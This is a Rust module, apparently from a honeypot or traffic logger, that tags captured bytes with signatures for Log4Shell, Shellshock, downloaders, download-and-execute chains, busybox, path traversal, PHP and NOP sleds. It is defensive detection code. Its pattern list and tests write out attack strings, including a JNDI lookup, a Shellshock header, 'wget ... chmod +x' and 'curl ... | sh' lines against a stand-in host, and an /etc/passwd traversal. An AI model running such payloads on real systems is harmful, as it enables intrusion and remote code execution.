//! Payload tags: cheap signatures on a turn's captured bytes, written as ECS `tags`.
//!
//! One Aho-Corasick pass (ASCII case-insensitive) finds every signature at once, and one
//! counting pass decides whether the bytes are mostly non-printable; no regex, no allocation.

use crate::json::JsonWriter;
use aho_corasick::AhoCorasick;
use std::sync::LazyLock;

/// A tag a payload can get.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[repr(u8)]
pub enum Tag {
    /// `${jndi:` (Log4Shell, CVE-2021-44228).
    Log4shell,
    /// `() {` function definitions in headers (Shellshock, CVE-2014-6271).
    Shellshock,
    /// `wget`, `curl` or `tftp` fetching something.
    Downloader,
    /// A download piped into or made executable for a shell (`| sh`, `chmod +x`).
    DownloadExec,
    /// `/bin/busybox` (IoT botnets).
    Busybox,
    /// `../` or `..%2f` sequences.
    PathTraversal,
    /// `<?php` or `php://`.
    Php,
    /// A run of x86 NOPs (0x90).
    NopSled,
    /// Mostly bytes that are neither printable ASCII nor whitespace.
    Binary,
}

impl Tag {
    const ALL: [Tag; 9] = [
        Tag::Log4shell,
        Tag::Shellshock,
        Tag::Downloader,
        Tag::DownloadExec,
        Tag::Busybox,
        Tag::PathTraversal,
        Tag::Php,
        Tag::NopSled,
        Tag::Binary,
    ];

    pub fn as_str(self) -> &'static str {
        match self {
            Tag::Log4shell => "log4shell",
            Tag::Shellshock => "shellshock",
            Tag::Downloader => "downloader",
            Tag::DownloadExec => "download_exec",
            Tag::Busybox => "busybox",
            Tag::PathTraversal => "path_traversal",
            Tag::Php => "php",
            Tag::NopSled => "nop_sled",
            Tag::Binary => "binary",
        }
    }
}

/// What a pattern means: a tag of its own, or half of `download_exec`.
#[derive(Clone, Copy)]
enum Hit {
    Tag(Tag),
    Download,
    Exec,
}

const PATTERNS: &[(&[u8], Hit)] = &[
    (b"${jndi:", Hit::Tag(Tag::Log4shell)),
    (b"() {", Hit::Tag(Tag::Shellshock)),
    (b"wget ", Hit::Download),
    (b"curl ", Hit::Download),
    (b"tftp ", Hit::Download),
    (b"| sh", Hit::Exec),
    (b"|sh", Hit::Exec),
    (b"| bash", Hit::Exec),
    (b"|bash", Hit::Exec),
    (b"chmod +x", Hit::Exec),
    (b"chmod 777", Hit::Exec),
    (b"/bin/busybox", Hit::Tag(Tag::Busybox)),
    (b"../", Hit::Tag(Tag::PathTraversal)),
    (b"..%2f", Hit::Tag(Tag::PathTraversal)),
    (b"<?php", Hit::Tag(Tag::Php)),
    (b"php://", Hit::Tag(Tag::Php)),
    (
        b"\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90",
        Hit::Tag(Tag::NopSled),
    ),
];

/// Payloads shorter than this are never tagged `binary` (a stray byte or two says nothing).
const BINARY_MIN_LEN: usize = 16;

static MATCHER: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
    AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .build(PATTERNS.iter().map(|(p, _)| p))
        .ok() // the patterns are constants: building cannot fail; no tags if it did
});

/// The tags of one payload, as a small set.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Tags(u16);

impl Tags {
    /// Tags `payload` in one matching pass plus one counting pass.
    pub fn of(payload: &[u8]) -> Tags {
        let mut tags = Tags::default();
        if let Some(matcher) = MATCHER.as_ref() {
            let (mut download, mut exec) = (false, false);
            // Overlapping search: "| sh" must not hide behind an earlier "wget " etc.
            for m in matcher.find_overlapping_iter(payload) {
                match PATTERNS[m.pattern().as_usize()].1 {
                    Hit::Tag(t) => tags.insert(t),
                    Hit::Download => download = true,
                    Hit::Exec => exec = true,
                }
            }
            if download {
                tags.insert(Tag::Downloader);
                if exec {
                    tags.insert(Tag::DownloadExec);
                }
            }
        }
        if payload.len() >= BINARY_MIN_LEN {
            let text = payload
                .iter()
                .filter(|&&b| b.is_ascii_graphic() || b.is_ascii_whitespace())
                .count();
            if text * 2 < payload.len() {
                tags.insert(Tag::Binary);
            }
        }
        tags
    }

    fn insert(&mut self, t: Tag) {
        self.0 |= 1 << (t as u8);
    }

    pub fn contains(self, t: Tag) -> bool {
        self.0 & (1 << (t as u8)) != 0
    }

    pub fn is_empty(self) -> bool {
        self.0 == 0
    }

    /// The tag names, in a fixed order.
    pub fn names(self) -> impl Iterator<Item = &'static str> {
        Tag::ALL
            .into_iter()
            .filter(move |t| self.contains(*t))
            .map(Tag::as_str)
    }
}

/// Writes `tags` (ECS: a top-level array of keywords) for `payload`, when it has any.
pub fn write_tags(w: &mut JsonWriter, payload: &[u8]) {
    let tags = Tags::of(payload);
    if !tags.is_empty() {
        w.str_array("tags", tags.names().map(str::as_bytes));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn names(p: &[u8]) -> Vec<&'static str> {
        Tags::of(p).names().collect()
    }

    #[test]
    fn signatures() {
        assert_eq!(
            names(b"GET / HTTP/1.1\r\nUser-Agent: ${JNDI:ldap://x/a}\r\n\r\n"),
            ["log4shell"]
        );
        assert_eq!(
            names(b"GET /cgi-bin/x HTTP/1.1\r\nUser-Agent: () { :;}; /bin/id\r\n\r\n"),
            ["shellshock"]
        );
        assert_eq!(
            names(b"cd /tmp; wget http://x/a.sh; chmod +x a.sh; ./a.sh"),
            ["downloader", "download_exec"]
        );
        assert_eq!(
            names(b"curl -s http://x/i | sh"),
            ["downloader", "download_exec"]
        );
        assert_eq!(names(b"curl http://x/"), ["downloader"]);
        assert_eq!(
            names(b"enable\r\nsystem\r\nsh\r\n/bin/busybox MIRAI\r\n"),
            ["busybox"]
        );
        assert_eq!(
            names(b"GET /../../etc/passwd HTTP/1.0\r\n\r\n"),
            ["path_traversal"]
        );
        assert_eq!(
            names(b"GET /index.php?s=<?php phpinfo(); HTTP/1.0"),
            ["php"]
        );
        let mut sled = vec![0x90u8; 64];
        sled.extend_from_slice(b"\xcc\xcc");
        assert_eq!(names(&sled), ["nop_sled", "binary"]);
    }

    #[test]
    fn plain_requests_are_untagged() {
        assert!(Tags::of(b"GET / HTTP/1.1\r\nHost: example.com\r\n\r\n").is_empty());
        assert!(Tags::of(b"SSH-2.0-OpenSSH_9.6\r\n").is_empty());
        assert!(Tags::of(b"").is_empty());
        assert!(Tags::of(b"\x00\x01").is_empty()); // too short to call binary
    }

    #[test]
    fn binary_is_mostly_non_printable() {
        let hello = [
            0x16u8, 3, 1, 0, 0xc8, 1, 0, 0, 0xc4, 3, 3, 0xaa, 0xbb, 0, 0, 0, 0, 0,
        ];
        assert_eq!(names(&hello), ["binary"]);
        let mostly_text = b"hello world, this is text\x00\x01";
        assert!(Tags::of(mostly_text).is_empty());
    }
}
